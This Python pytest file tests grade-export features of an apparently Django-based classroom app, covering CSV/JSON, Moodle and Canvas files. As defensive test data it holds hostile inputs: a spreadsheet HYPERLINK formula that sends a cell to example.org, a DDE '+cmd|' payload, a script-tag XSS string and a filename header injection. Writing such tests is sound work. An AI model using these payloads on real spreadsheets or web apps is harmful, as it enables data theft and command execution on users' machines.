from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from lessons.classroom.exports.canvas import read_gradebook
from lessons.classroom.exports.roster import NotARoster, match, read_roster
from lessons.classroom.exports.tables import NO_GRADE_IN_MOODLE, csv_text, guarded, moodle_rows, unique_title, wide_rows
from lessons.classroom.grading.completion import completion
from lessons.classroom.history import ChangeKind
from lessons.classroom.models import Attempt, Change
from lessons.course.loader import all_exercises

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"Alice")'
FIRST, SECOND, THIRD = (exercise.id for exercise in all_exercises()[:3])
TITLE = {exercise.id: exercise.title for exercise in all_exercises()}
COLUMN = {exercise.id: f"{exercise.title} ({exercise.id})" for exercise in all_exercises()}


@pytest.fixture
def greta(classroom) -> Client:
    client = Client()
    client.force_login(classroom.greta.user, backend="django.contrib.auth.backends.ModelBackend")
    return client


def export(client: Client, classroom, name: str, **query):
    return client.get(reverse("export", args=[classroom.klass.slug, name]), query)


def rows_of(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.content
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))


def judge(member, exercise: str, state: str = "done") -> Attempt:
    return Attempt.objects.create(
        member=member, exercise=exercise, state=state, verdict={"seen": "=It is so."}, check_hash="0" * 64
    )


def decide(classroom, exercise: str, points: float) -> None:
    data = {"exercise": exercise, "state": "done", "points": points, "reason": "+1 for trying"}
    Change.objects.create(
        klass=classroom.klass, by=classroom.greta, seat=classroom.alice, kind=ChangeKind.OVERRIDE, data=data
    )


def called(member, name: str, external_id: str = "") -> None:
    type(member).objects.filter(pk=member.pk).update(name=name, external_id=external_id)


# --- CSV and JSON --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "\nx", "\uff1d1", "+cmd|x'!A0"])
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert guarded(text) == f"'{text}"


def test_a_text_that_would_be_a_cell_of_its_own_where_lines_are_split_at_semicolons_gets_one_too():
    assert guarded("Mallory;=1+1;\t-2") == "Mallory;'=1+1;\t'-2"
    assert guarded("x\n@SUM(A1)") == "x\n'@SUM(A1)"


@pytest.mark.parametrize(
    "cell", [-1.5, 2, "-12", "+3.5", "1=2", "", None, "a-b", "'=1", "1, -1; 2", NO_GRADE_IN_MOODLE], ids=repr
)
def test_numbers_stay_numbers_and_other_texts_what_they_are(cell):
    assert guarded(cell) == cell


def test_whole_points_are_written_whole_and_lines_end_as_the_rfc_says():
    assert csv_text([("a", 2.0, 0.5, None, 'x,"y"')]) == 'a,2,0.5,,"x,""y"""\r\n'


def test_a_row_for_each_exercise_of_each_student_opens_in_a_csv_reader_as_it_was(classroom, greta):
    called(classroom.alice, HOSTILE)
    called(classroom.bob, 'Bob, "the\u202eeldest" 🦆')
    judge(classroom.alice, FIRST)
    rows = rows_of(export(greta, classroom, "completion.csv"))
    head, alice = rows[0], rows[1]
    assert len(rows) == 1 + 2 * len(all_exercises())
    assert {len(row) for row in rows} == {len(head)}
    assert dict(zip(head, alice, strict=True)).items() >= {
        "name": f"'{HOSTILE}", "exercise": FIRST, "state": "done", "late": "no", "attempts": "1",
    }.items()  # fmt: skip
    assert {row[1] for row in rows[1:]} == {f"'{HOSTILE}", 'Bob, "the\u202eeldest" 🦆'}


def test_in_the_table_not_done_is_no_grade_or_zero_and_could_not_check_is_never_zero(classroom, greta):
    judge(classroom.alice, FIRST)
    judge(classroom.alice, SECOND, "not_yet")
    judge(classroom.alice, THIRD, "could_not_check")
    for query, not_done in (({}, ""), ({"zeros": "1"}, "0")):
        head, _, alice, _ = rows_of(export(greta, classroom, "table.csv", **query))
        row = dict(zip(head, alice, strict=True))
        assert float(row[COLUMN[FIRST]]) > 0
        assert (row[COLUMN[SECOND]], row[COLUMN[THIRD]]) == (not_done, "")
        assert row["done"] == "1"


def test_the_table_has_a_row_of_the_points_possible_and_says_that_it_is_utf_8(classroom, greta):
    answer = export(greta, classroom, "table.csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    head, possible, *_ = rows_of(answer)
    row = dict(zip(head, possible, strict=True))
    points = [exercise.points for exercise in all_exercises()]
    assert [int(row[COLUMN[exercise.id]]) for exercise in all_exercises()] == points
    assert (row["name"], row["points"], row["done"]) == ("Points possible", str(sum(points)), str(len(points)))


def test_an_override_is_a_grade_and_its_reason_goes_out_guarded(classroom, greta):
    decide(classroom, FIRST, 0.5)
    head, first, *_ = rows_of(export(greta, classroom, "completion.csv", text=classroom.alice.slug))
    row = dict(zip(head, first, strict=True))
    assert (row["points"], row["override_reason"], row["override_by"]) == ("0.5", "'+1 for trying", "Greta")


def test_a_file_is_filtered_as_the_page_is(classroom, greta):
    judge(classroom.bob, FIRST)
    assert [row[1] for row in rows_of(export(greta, classroom, "table.csv"))[2:]] == ["Alice", "Bob"]
    assert [row[1] for row in rows_of(export(greta, classroom, "table.csv", state="done"))[2:]] == ["Bob"]
    lesson = FIRST.partition(".")[0]
    head = rows_of(export(greta, classroom, "table.csv", lesson=lesson))[0]
    assert all(f"({lesson}." in name for name in head[3:-4])


def test_json_says_which_class_which_filter_and_how_each_exercise_stands(classroom, greta):
    judge(classroom.alice, FIRST)
    told = export(greta, classroom, "completion.json", text="alice").json()
    assert (told["class"]["slug"], told["filter"]) == (classroom.klass.slug, {"text": "alice"})
    [alice] = told["seats"]
    assert alice["exercises"][FIRST]["state"] == "done"
    assert alice["exercises"][SECOND]["state"] == "not_begun"
    assert datetime.fromisoformat(alice["last_at"]) <= datetime.now(UTC)


@pytest.mark.parametrize("name", ["completion.csv", "table.csv", "completion.json", "moodle-useremail.csv"])
def test_a_file_is_an_attachment_with_a_name_that_nobody_chose(classroom, greta, name):
    classroom.klass.name = 'a"; filename="x.exe\r\nX-Header: 1'
    classroom.klass.save()
    answer = export(greta, classroom, name)
    assert answer["Content-Disposition"] == f'attachment; filename="{classroom.klass.slug}-{name}"'
    assert answer.content.startswith(b"\xef\xbb\xbf") == (name in ("completion.csv", "table.csv"))


def test_there_is_no_file_of_another_name(classroom, greta):
    assert export(greta, classroom, "secrets.csv").status_code == 404


# --- Moodle --------------------------------------------------------------------------------------------------


def test_moodle_gets_a_grade_and_its_feedback_side_by_side_under_the_key_that_was_chosen(classroom, greta):
    called(classroom.alice, "Alice", "Alice@Example.org")
    called(classroom.bob, "Bob", "007")
    judge(classroom.alice, FIRST)
    head, alice, *others = rows_of(export(greta, classroom, "moodle-useremail.csv"))
    assert head[:3] == ["useremail", TITLE[FIRST], f"{TITLE[FIRST]} (feedback)"]
    assert (alice[0], float(alice[1]) > 0, alice[2]) == ("Alice@Example.org", True, "Done. =It is so.")
    assert alice[3] == NO_GRADE_IN_MOODLE
    assert not others
    [head, bob] = rows_of(export(greta, classroom, "moodle-useridnumber.csv"))
    assert (head[0], bob[0]) == ("useridnumber", "007")


def test_an_id_of_two_students_is_in_no_file_for_moodle(classroom):
    called(classroom.alice, "Alice", "same@example.org")
    called(classroom.bob, "Bob", "same@example.org")
    assert len(list(moodle_rows(completion(classroom.klass), "useremail"))) == 1


def test_the_page_says_how_many_students_each_file_for_moodle_has(classroom, greta):
    called(classroom.alice, "Alice", "alice@example.org")
    shown = greta.get(reverse("exports", args=[classroom.klass.slug]), {"text": "alice", "zeros": "1"})
    assert (shown.context["emails"], shown.context["numbers"]) == (1, 0)
    assert "text=alice&amp;zeros=1" in shown.content.decode()
    assert "out of 100" in shown.content.decode()


# --- Canvas --------------------------------------------------------------------------------------------------

HEADER = f"Student,ID,SIS User ID,SIS Login ID,Section,{TITLE[FIRST]} (4711),Essay (12),Current Score"
GRADEBOOK = f"""\
{HEADER}
,,,,,Manual Posting,,
    Points Possible,,,,,2,10,(read only)
"Adams, Alice",101,A-1,alice,"Section 1, Monday",,7,70
"Brown, Bob",102,,bob@example.org,Section 1,EX,8,80
"Cole, Cora",104,,cora,Section 1,,,
"Student, Test",103,,abc,Section 1,,,
"""


def upload(client: Client, classroom, book: str | bytes, **query):
    data = book if isinstance(book, bytes) else book.encode()
    url = reverse("canvas", args=[classroom.klass.slug])
    return client.post(url, {"file": SimpleUploadedFile("gradebook.csv", data)}, query_params=query)


def canvas_file(client: Client, classroom, page, *, columns: str = "", **query):
    signed = re.search(r'name="gradebook" value="([^"]+)"', page.content.decode())
    assert signed
    return client.post(
        reverse("canvas-file", args=[classroom.klass.slug]),
        {"gradebook": signed[1], "columns": columns},
        query_params=query,
    )


def test_a_gradebook_of_canvas_comes_back_with_its_own_ids_and_headers(classroom, greta):
    called(classroom.alice, "Ally", "ALICE ")
    called(classroom.bob, "Bob Brown")
    judge(classroom.alice, FIRST)
    page = upload(greta, classroom, "\ufeff" + GRADEBOOK)
    assert [(seat.name, person.id) for seat, person in page.context["by_id"]] == [("Ally", "101")]
    assert [(seat.name, person.id) for seat, person in page.context["by_name"]] == [("Bob Brown", "102")]
    assert [person.student for person in page.context["people_left"]] == ["Cole, Cora"]
    head, possible, alice, bob = rows_of(canvas_file(greta, classroom, page))
    assert head[:7] == [
        *["Student", "ID", "SIS User ID", "SIS Login ID", "Section"],
        f"{TITLE[FIRST]} (4711)",
        TITLE[SECOND],
    ]
    assert "Points Possible" in possible[0]
    assert possible[1:5] == [""] * 4
    assert [int(points) for points in possible[5:]] == [exercise.points for exercise in all_exercises()]
    assert alice[:6] == ["Adams, Alice", "101", "A-1", "alice", "Section 1, Monday", possible[5]]
    assert bob[:6] == ["Brown, Bob", "102", "", "bob@example.org", "Section 1", "EX"]


def test_the_total_alone_is_one_column_that_nobody_has_of_whom_an_exercise_could_not_be_checked(classroom, greta):
    called(classroom.alice, "Alice", "alice")
    called(classroom.bob, "Bob", "bob@example.org")
    judge(classroom.alice, FIRST)
    judge(classroom.bob, FIRST)
    judge(classroom.bob, SECOND, "could_not_check")
    page = upload(greta, classroom, GRADEBOOK)
    head, possible, alice, bob = rows_of(canvas_file(greta, classroom, page, columns="total"))
    assert head[5:] == [f"{classroom.klass.name}: total"]
    assert possible[5:] == [str(sum(exercise.points for exercise in all_exercises()))]
    first = next(exercise for exercise in all_exercises() if exercise.id == FIRST)
    assert (alice[5:], bob[5:]) == ([str(first.points)], [""])


def test_the_file_for_canvas_is_filtered_as_the_page_is(classroom, greta):
    called(classroom.alice, "Alice", "alice")
    called(classroom.bob, "Bob", "bob@example.org")
    page = upload(greta, classroom, GRADEBOOK, text="bob", zeros="1")
    [_, _, bob] = rows_of(canvas_file(greta, classroom, page, text="bob", zeros="1"))
    assert (bob[1], bob[6]) == ("102", "0")


@pytest.mark.parametrize(
    ("alice", "bob", "left"),
    [
        (("Alice Adams", ""), ("Alice Adams", ""), ["Alice Adams", "Alice Adams"]),
        (("Ally", "alice"), ("Bobby", "A-1"), ["Ally", "Bobby"]),
        (("Ally", "alice"), ("Alice Adams", ""), ["Alice Adams"]),
        (("Al", ""), ("B", "nobody@example.org"), ["Al", "B"]),
        (("Adams, Alice", ""), ("Brown,  bob", ""), []),
    ],
    ids=[
        "two with one name",
        "two ids of one person",
        "a name of whom an id knows",
        "nobody known",
        "names as Canvas writes them",
    ],
)
def test_who_could_be_two_is_nobody(classroom, alice, bob, left):
    called(classroom.alice, *alice)
    called(classroom.bob, *bob)
    seats = [row.seat for row in completion(classroom.klass).rows]
    matches = match(seats, read_gradebook(GRADEBOOK.encode()).people)
    assert [seat.name for seat in matches.seats_left] == left


def test_who_was_not_found_in_canvas_is_matched_by_hand_and_has_that_id_from_then_on(classroom, greta):
    called(classroom.alice, "Al")
    called(classroom.bob, "Bob Brown")
    page = upload(greta, classroom, GRADEBOOK)
    assert [seat.name for seat in page.context["seats_left"]] == ["Al"]
    assert "Adams, Alice · alice" in page.content.decode()
    chosen = {"gradebook": page.context["gradebook"], f"id-{classroom.alice.slug}": "alice"}
    again = greta.post(reverse("canvas", args=[classroom.klass.slug]), chosen)
    assert [(seat.name, person.id) for seat, person in again.context["by_id"]] == [("Al", "101")]
    change = Change.objects.get(kind="external-id")
    assert (change.by, change.seat, change.data["after"]) == (classroom.greta, classroom.alice, "alice")
    assert greta.post(reverse("canvas", args=[classroom.klass.slug]), {**chosen, "gradebook": "x"}).status_code == 422


def test_a_filter_never_makes_a_name_the_only_one(classroom, greta):
    for member in (classroom.alice, classroom.bob):
        called(member, "Alice Adams")
    page = upload(greta, classroom, GRADEBOOK, text=classroom.alice.slug)
    assert [seat.slug for seat in page.context["seats_left"]] == [classroom.alice.slug]


def test_hostile_cells_of_a_gradebook_are_text_on_the_page_and_guarded_in_the_file(classroom, greta):
    called(classroom.alice, "<script>alert(1)</script>", "alice")
    page = upload(greta, classroom, GRADEBOOK.replace('"Adams, Alice"', '"=1+1""<b>"'))
    assert "<script>alert" not in page.content.decode()
    assert "=1+1&quot;&lt;b&gt;" in page.content.decode()
    assert rows_of(canvas_file(greta, classroom, page))[2][0] == "'=1+1\"<b>"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "The submitted file is empty."),
        ("name,points\nA,1\n", "lacks the columns"),
        (b"Student,ID,Section\n\xff,1,2\n", "not UTF-8"),
        ('Student,ID,Section\n"A,1,2\n', "not CSV"),
        ("Student,ID,Section\n" + "x" * (2 * 1024 * 1024), "larger than 2 MB"),
    ],
    ids=["empty", "another file", "not UTF-8", "an open quote", "too large"],
)
def test_what_is_no_gradebook_is_refused_in_words(classroom, greta, text, words):
    refused = upload(greta, classroom, text)
    assert refused.status_code == 422
    assert words in refused.content.decode()


def test_a_gradebook_that_was_changed_on_its_way_is_refused(classroom, greta):
    page = upload(greta, classroom, GRADEBOOK)
    url = reverse("canvas-file", args=[classroom.klass.slug])
    signed = page.context["gradebook"]
    for wrong in ("", signed[:-1], signed + "x"):
        assert greta.post(url, {"gradebook": wrong}).status_code == 422
    ines = Client()
    ines.force_login(classroom.ines.user, backend="django.contrib.auth.backends.ModelBackend")
    assert ines.post(url, {"gradebook": signed}).status_code == 422


def test_semicolons_and_first_and_last_names_in_columns_of_their_own_are_read_too():
    book = read_gradebook(b"LastName;FirstName;ID;SIS Login ID;Section;Essay (1)\nAdams;Alice;101;alice;One;\n")
    [alice] = book.people
    assert (alice.student, alice.name, alice.id, alice.sis_login_id) == ("Adams, Alice", "alice adams", "101", "alice")


def test_a_title_that_canvas_has_twice_is_nobodys_column():
    assert read_gradebook(b"Student,ID,Section,A (1),A (2),B (3)\n").headers == {"B": "B (3)"}
    with pytest.raises(NotARoster):
        read_gradebook(b"ID,Section\n")


def test_no_two_columns_have_one_title(classroom):
    exercises = completion(classroom.klass).exercises
    titles = [unique_title(exercise, exercises) for exercise in exercises]
    assert len(set(titles)) == len(titles)
    assert not any(re.search(r"\([0-9]+\)$", title) for title in titles)  # Canvas would take it for its own number
    assert len(next(iter(wide_rows(completion(classroom.klass))))) == len(exercises) + 7


# --- School ids ----------------------------------------------------------------------------------------------

ROSTER = (
    "First name,Last name,ID number,Email address\n"
    "Alice,Adams,7,alice@example.org\nBo,Brown,8,bo@example.org\nCora,Cole,9,cora@example.org\n"
)


def ids_page(classroom, name: str = "school-ids") -> str:
    return reverse(name, args=[classroom.klass.slug])


def test_a_list_of_participants_suggests_ids_and_the_rest_is_chosen_by_hand(classroom, greta):
    called(classroom.alice, "Alice Adams")
    called(classroom.bob, "Bobby")
    page = greta.post(ids_page(classroom, "roster"), {"file": SimpleUploadedFile("people.csv", ROSTER.encode())})
    text = page.content.decode()
    assert [seat.name for seat, *_ in page.context["rows"]] == ["Bobby", "Alice Adams"]
    assert "Brown, Bo · bo@example.org" in text
    assert 'value="alice@example.org"' in text
    assert not Change.objects.exists()
    chosen = {f"id-{classroom.alice.slug}": "alice@example.org", f"id-{classroom.bob.slug}": "bo@example.org"}
    assert "Saved: 2 ids." in greta.post(ids_page(classroom), chosen, follow=True).content.decode()
    assert "No changes." in greta.post(ids_page(classroom), chosen, follow=True).content.decode()
    assert match([*classroom.klass.members.filter(role="student")], read_roster(ROSTER.encode())).by_name == {}


def test_two_seats_may_swap_their_ids_and_never_have_one_together(classroom, greta):
    called(classroom.alice, "Alice", "1")
    called(classroom.bob, "Bob", "2")
    alice, bob = f"id-{classroom.alice.slug}", f"id-{classroom.bob.slug}"
    for refused in ({alice: "2"}, {alice: "3", bob: "3"}, {alice: "a\u202eb"}):
        answer = greta.post(ids_page(classroom), refused)
        assert (answer.status_code, "Nothing was saved" in answer.content.decode()) == (422, True)
    assert not Change.objects.exists()
    assert greta.post(ids_page(classroom), {alice: "2", bob: "1"}).status_code == 302
    assert dict(classroom.klass.members.exclude(external_id="").values_list("name", "external_id")) == {
        "Alice": "2", "Bob": "1"
    }  # fmt: skip


def test_a_gradebook_of_more_lines_than_any_course_has_is_refused_before_it_is_read():
    with pytest.raises(NotARoster, match="20,000 lines"):
        read_gradebook(b"Student,ID,Section\n" + b"\n" * 20_000)
